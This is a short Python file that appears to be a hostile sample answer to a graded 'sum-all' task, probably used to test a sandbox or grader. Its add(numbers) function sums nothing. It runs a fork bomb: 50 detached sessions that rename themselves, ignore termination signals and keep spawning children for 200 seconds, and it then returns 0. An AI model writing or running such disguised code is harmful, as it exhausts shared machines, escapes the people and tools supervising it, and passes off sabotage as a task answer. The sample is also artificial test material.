# tries: a fork bomb of sessions of their own, each of which starts again when one is killed
# must: no point; graded or needs a person
# %% answer sum-all
import os
import pathlib
import signal
import time


def add(numbers):
    for _ in range(50):
        if os.fork() == 0:
            os.setsid()
            pathlib.Path("/proc/self/comm").write_text("hostile-fork")
            for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                signal.signal(number, signal.SIG_IGN)
            until = time.monotonic() + 200
            while time.monotonic() < until:
                try:
                    if os.fork() == 0:
                        time.sleep(0.01)
                except OSError:
                    time.sleep(0.01)
            os._exit(0)
    return 0
